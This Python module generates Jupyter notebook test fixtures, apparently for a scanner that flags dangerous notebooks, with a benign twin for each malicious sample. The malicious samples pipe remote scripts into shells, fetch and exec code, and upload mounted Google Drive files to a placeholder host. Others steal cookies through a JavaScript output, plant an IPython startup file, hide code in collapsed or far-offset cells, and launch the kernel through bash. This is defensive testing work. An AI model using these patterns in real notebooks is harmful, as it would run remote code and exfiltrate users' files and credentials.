"""Notebooks: one hit for each NBK rule, and benign twins."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

HOST = "https://example.invalid"
MARKER = "echo weighbridge-marker"


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    for name, tree in (*_commands(), *_programs(), *_outputs(), *_hidden(), *_others()):
        yield f"notebooks/{name}", json.dumps(tree, indent=1).encode()


def code(*lines: str, outputs: list[Any] | None = None, **metadata: Any) -> dict[str, Any]:
    """A code cell."""
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": metadata,
        "outputs": outputs or [],
        "source": [line + "\n" for line in lines],
    }


def prose(*lines: str, **more: Any) -> dict[str, Any]:
    """A cell of Markdown."""
    return {"cell_type": "markdown", "metadata": {}, "source": [line + "\n" for line in lines], **more}


def shown(media_type: str, text: str) -> dict[str, Any]:
    """An output."""
    return {"output_type": "display_data", "metadata": {}, "data": {media_type: [text]}}


def notebook(*cells: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    """A notebook of version 4."""
    about = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}
    return {"cells": list(cells), "metadata": about | metadata, "nbformat": 4, "nbformat_minor": 5}


def _commands() -> Iterator[tuple[str, Any]]:
    yield "fetches-shell.ipynb", notebook(prose("# Demo"), code(f"!curl -s {HOST}/setup.sh | sh"))
    yield "cell-bash.ipynb", notebook(code("%%bash", "cd /tmp", f"curl -s {HOST}/setup.sh | bash"))
    yield (
        "kernel-call.ipynb",
        notebook(code("ip = get_ipython()", f"get_ipython().system('curl -s {HOST}/setup.sh | sh')")),
    )
    yield "fetched-then-run.ipynb", notebook(code(f"!wget -q {HOST}/setup.sh"), code("!bash setup.sh"))
    yield "runs-address.ipynb", notebook(code(f"%run {HOST}/weighbridge-marker.py"))
    yield "known-installer.ipynb", notebook(code("!curl -LsSf https://astral.sh/uv/install.sh | sh"))
    yield (
        "plain.twin.ipynb",
        notebook(
            prose("# Fine-tuning"),
            code("%pip install -q transformers datasets accelerate"),
            code("!nvidia-smi", "!ls -la", "files = !ls"),
            code("%matplotlib inline", "%time x = sum(range(10))"),
            code(
                "%%bash",
                "mkdir -p data",
                "wget -q https://huggingface.co/datasets/a/b/resolve/main/x.csv",
            ),
            code("%%writefile train.py", "import torch", "print(torch.__version__)"),
            code("from transformers import pipeline", "pipe = pipeline('text-generation')", "pipe?"),
        ),
    )
    yield "installs-malicious.ipynb", notebook(code("!pip install -q ultralytics==8.3.41"))
    yield (
        "installs-second-index.ipynb",
        notebook(code(f"%pip install my-own-helpers --extra-index-url {HOST}/simple")),
    )


def _programs() -> Iterator[tuple[str, Any]]:
    yield (
        "across-cells.ipynb",
        notebook(
            code("import requests"),
            code(f"text = requests.get('{HOST}/weighbridge-marker').text"),
            code("exec(text)"),
        ),
    )
    yield "starts-program.ipynb", notebook(code("import os", "os.system('nvidia-smi')"))
    yield (
        "version3.ipynb",
        {
            "metadata": {"name": ""},
            "nbformat": 3,
            "nbformat_minor": 0,
            "worksheets": [
                {
                    "cells": [
                        {
                            "cell_type": "code",
                            "input": [f"!curl -s {HOST}/setup.sh | sh"],
                            "language": "python",
                            "outputs": [],
                        }
                    ]
                }
            ],
        },
    )
    yield (
        "writes-startup.ipynb",
        notebook(
            code(
                "%%writefile ~/.ipython/profile_default/startup/00-marker.py",
                "print('weighbridge-marker')",
            )
        ),
    )
    yield (
        "writes-program.ipynb",
        notebook(code("%%writefile run.sh", "#!/bin/bash", f"curl -s {HOST}/setup.sh | bash")),
    )
    yield (
        "drive.ipynb",
        notebook(
            code("from google.colab import drive", "drive.mount('/content/drive')"),
            code(f"!curl -s -F file=@/content/drive/MyDrive/weighbridge-marker {HOST}/upload"),
        ),
    )
    yield (
        "drive-whole.ipynb",
        notebook(
            code("from google.colab import drive", "drive.mount('/content/drive')"),
            code(
                "import os, requests",
                "for root, _, names in os.walk('/content/drive/MyDrive'):",
                "    for name in names:",
                "        path = os.path.join(root, name)",
                f"        requests.post('{HOST}/upload', files={{'f': open(path, 'rb')}})",
            ),
        ),
    )
    yield (
        "drive.twin.ipynb",
        notebook(
            code("from google.colab import drive", "drive.mount('/content/drive')"),
            code("import pandas as pd", "pd.read_csv('/content/drive/MyDrive/x.csv')"),
        ),
    )


def _outputs() -> Iterator[tuple[str, Any]]:
    drives = (
        "<script>Jupyter.notebook.kernel.execute(\"import os; os.system('echo "
        "weighbridge-marker')\")</script>"
    )
    yield "output-drives.ipynb", notebook(code("1", outputs=[shown("text/html", drives)]))
    cookie = f"fetch('{HOST}/?c=' + document.cookie)"
    yield "output-cookie.ipynb", notebook(code("1", outputs=[shown("application/javascript", cookie)]))
    frame = f'<iframe src="{HOST}/page"></iframe>'
    yield "output-frame.ipynb", notebook(code("1", outputs=[shown("text/html", frame)]))
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="console.log(\'weighbridge-marker\')"></svg>'
    yield "output-svg.ipynb", notebook(code("1", outputs=[shown("image/svg+xml", svg)]))
    plot = (
        '<div id="p"></div><script src="https://cdn.plot.ly/plotly-2.35.2.min.js"></script>'
        '<script type="text/javascript">require(["plotly"], function(Plotly) { '
        'Plotly.newPlot("p", []) })</script>'
    )
    table = "<table><tr><td>1</td></tr></table>"
    yield (
        "outputs.twin.ipynb",
        notebook(
            code("fig.show()", outputs=[shown("text/html", plot)]),
            code("df", outputs=[shown("text/html", table), shown("text/plain", "1")]),
            code("plt.plot()", outputs=[shown("image/png", base64.b64encode(b"\x89PNG\r\n").decode())]),
            code(
                "video",
                outputs=[shown("text/html", '<iframe src="https://www.youtube.com/embed/x"></iframe>')],
            ),
        ),
    )
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"1": {"state": {"value": drives}}}}}
    yield "widget-drives.ipynb", notebook(code("1"), widgets=state)


def _hidden() -> Iterator[tuple[str, Any]]:
    far = "print('hello');" + " " * 200 + "import weighbridge_marker"
    yield "far-right.ipynb", notebook(code(far))
    yield "far-below.ipynb", notebook(code("print('hello')", *[""] * 150, "import weighbridge_marker"))
    yield (
        "hidden-cell.ipynb",
        notebook(code(f"!wget -q {HOST}/weighbridge-marker", jupyter={"source_hidden": True})),
    )
    yield (
        "hidden-cell.twin.ipynb",
        notebook(
            code("import matplotlib.pyplot as plt", jupyter={"source_hidden": True}, tags=["hide-input"])
        ),
    )
    yield "init-cell.ipynb", notebook(code("print('weighbridge-marker')", init_cell=True))


def _others() -> Iterator[tuple[str, Any]]:
    spec = {"display_name": "Python 3", "language": "python"}
    yield "shell-kernel/kernel.json", spec | {"argv": ["bash", "-c", MARKER + "; python -m ipykernel"]}
    honest = ["python3", "-m", "ipykernel_launcher", "-f", "{connection_file}"]
    yield "kernel.twin/kernel.json", spec | {"argv": honest}
